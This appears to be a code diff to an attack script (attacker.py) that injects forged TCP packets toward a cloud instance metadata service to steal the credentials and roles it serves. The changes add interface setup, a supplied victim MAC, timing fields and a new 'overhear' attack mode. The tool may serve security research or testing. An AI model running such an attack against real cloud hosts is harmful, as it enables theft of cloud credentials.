@@ -14,6 +14,7 @@ import time
 from frames import ACK, IPV4, IPV6, RST, SYN, parse_tcp, tcp
 from loot import Loot, whole_answer
 from raw_tcp import Connection
+from transit import Transit, clean
 from wire import Wire
 
 # A MAC of no interface: the attacker's own kernel would react to answers that arrive at its own MAC.
@@ -22,15 +23,32 @@ METADATA = ("169.254.169.254", 80)
 METADATA6 = ("fd00:ec2::254", 80)
 
 
-class Attack:
+def opened(interface, tags, arp_hardware, seconds=10):
+    """The wire of an interface, or of "any" in addition to eth0, once there is one that is up."""
+    end = time.monotonic() + seconds
+    while interface == "any":
+        names = [name for _, name in socket.if_nameindex() if name.startswith("eth") and name != "eth0"]
+        try:
+            with open("/sys/class/net/%s/operstate" % (names + ["none"])[0]) as state:
+                if state.read().strip() == "up":
+                    return Wire(names[0], tags, arp_hardware)
+        except OSError:
+            pass  # It has no address yet.
+        if time.monotonic() >= end:
+            raise OSError("no other interface than eth0 within %d s" % seconds)
+        time.sleep(0.01)
+    return Wire(interface, tags, arp_hardware)
+
+
+class Attack(Transit):
     def __init__(self, order):
         self.order = order
         self.loot = Loot()
         self.end = time.monotonic() + order["seconds"]
-        self.wire = Wire(order.get("interface", "eth0"), order.get("tags", ()), order.get("arpHardware", 1))
+        self.wire = opened(order.get("interface", "eth0"), order.get("tags", ()), order.get("arpHardware", 1))
         self.victim, self.host = order["victim"], order["host"]
         self.host_mac = self.wire.resolve(self.host)
-        self.victim_mac = self.wire.resolve(self.victim) if order.get("reachesVictim", True) else None
+        self.victim_mac = order.get("victimMac") or (self.wire.resolve(self.victim) if order.get("reachesVictim", True) else None)
         self.mac = {"ghost": GHOST, "own": self.wire.mac, "victim": self.victim_mac}[order.get("mac", "ghost")]
         self.service = METADATA6 if ":" in self.victim else METADATA
         self.ask_at = tuple(order.get("ask", self.service))
@@ -123,6 +141,8 @@ class Attack:
             if probe.challenge is not None:
                 return probe
             probe.abort()
+            if self.over():
+                break
             self.wire.pump(0.6 if tries > 1 else 0)
         if tries > 1:
             self.loot.note("the host has no connection from port %d" % port)
@@ -249,7 +269,7 @@ class Attack:
             self.loot.note("request from %s: %s" % (self.victim, error))
 
 
-ATTACKS = ("theft", "forged_accept", "port_reuse", "kept_injected", "impersonation", "across", "across_blind", "address_added")
+ATTACKS = ("theft", "forged_accept", "port_reuse", "kept_injected", "impersonation", "across", "across_blind", "address_added", "overhear")
 
 
 def capabilities():
@@ -264,6 +284,7 @@ def main(order):
         raise SystemExit("attacker.py: unknown attack %r" % order["attack"])
     for key in ("victim", "host"):
         order[key] = str(ipaddress.ip_address(order[key]))
+    clean()
     attack = Attack(order)
     getattr(attack, order["attack"])()
     loot = attack.loot
@@ -276,6 +297,8 @@ def main(order):
         "roles": loot.roles,
         "credentials": loot.credentials,
         "bytes": loot.bytes,
+        "began": attack.began,
+        "ended": attack.ended,
         "notes": loot.notes,
         "text": "\n".join(loot.text),
     }
